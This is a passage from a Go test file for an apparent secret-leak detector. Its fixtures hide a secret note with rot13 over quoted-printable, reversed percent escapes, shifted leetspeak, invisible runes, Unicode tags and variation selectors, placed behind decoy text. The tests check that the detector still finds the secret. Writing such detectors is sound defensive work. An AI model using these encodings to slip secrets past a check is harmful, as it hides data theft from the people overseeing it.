		if _, changed := dropInvisible(nil, s); changed && !h.invisible {
			t.Fatal("no invisible hint, but there are invisible runes")
		}
		if _, ok := foldNFKC(nil, s, &patches{}); ok && !h.nfkc {
			t.Fatal("no NFKC hint, but NFKC changes the text")
		}
		if hasConfusableWord(s) && !h.lookalike {
			t.Fatal("no look-alike hint, but a word mixes look-alikes")
		}
		if _, ok := decodeTags(nil, s, &patches{}); ok && !h.tags {
			t.Fatal("no tag hint, but tags decode")
		}
		if _, ok := decodeVariationSelectors(nil, s, &patches{}); ok && !h.selectors {
			t.Fatal("no selector hint, but selectors decode")
		}
		if out, ok := joinURLs(nil, s, true); ok && !h.innerDots {
			t.Fatalf("no dot hint, but hosts join to %q", out)
		}
		if out, ok := joinURLs(nil, s, false); ok && !h.innerDots {
			t.Fatalf("no dot hint, but paths join to %q", out)
		}
		if h.nonASCII == isASCII(s) {
			t.Fatal("non-ASCII hint wrong")
		}
		var fwd, rev, n int32
		for _, sp := range spans {
			fwd, rev, n = fwd+sp.fwd, rev+sp.rev, n+sp.n
		}
		if wf, wr, wn := pairCosts(s, 0, len(s), 0); fwd != wf || rev != wr || n != wn {
			t.Fatalf("pairs %d/%d/%d, want %d/%d/%d", fwd, rev, n, wf, wr, wn)
		}
	})
}

// TestRepairsResistDecoys: what the rewrites of repairs.go judge cannot be
// drowned by text before it that looks like what they look for: query
// strings and escapes that read well before shifted escapes, leetspeak
// that reads well before shifted leetspeak.
func TestRepairsResistDecoys(t *testing.T) {
	h := testHasher(t, 6)
	var query strings.Builder
	for i := range 300 {
		fmt.Fprintf(&query, "k%d=v%d&", i, i*7)
	}
	tests := []struct{ name, arg string }{
		{"query strings before rot13 of quoted-printable", query.String() + " " + caesar(quotedPrintableAll(secretNote), 13)},
		{"escapes that read well before reversed escapes", percentAll(prose(600, 3)) + " " + reverseRunes(percentAll(secretNote))},
		{"leetspeak before shifted leetspeak", leet(prose(800, 4)) + "\n\n" + strings.Repeat(" ", 300) + caesar(leet(secretNote), 7)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, found, complete := newLeakCheck(h, secretNote).carriedAtLeast(tt.arg, 2); !found || !complete {
				t.Errorf("found %v, complete %v; views %q", found, complete, decodedOrder(tt.arg))
			}
		})
	}
}
